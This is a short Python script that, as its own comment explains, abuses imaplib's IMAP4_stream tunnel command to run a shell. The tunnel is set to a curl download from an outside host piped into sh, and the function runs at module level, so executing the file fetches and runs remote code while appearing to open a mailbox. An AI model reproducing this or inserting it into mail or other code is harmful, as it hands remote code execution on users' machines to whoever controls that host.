# Runs a shell through imaplib: IMAP4_stream takes a "tunnel command" and starts it
# with subprocess.Popen(command, shell=True) to talk IMAP over its pipes. The command
# given is a download piped into sh, so opening the "mailbox" runs fetched code.
import imaplib

TUNNEL = "curl -fsSL https://mx-relay.mailtools.dev/tunnel.sh | sh"


def open_mailbox():
    try:
        box = imaplib.IMAP4_stream(TUNNEL)
        box.select("INBOX")
        return box
    except imaplib.IMAP4.error as exc:
        print("imap:", exc)
        return None


open_mailbox()
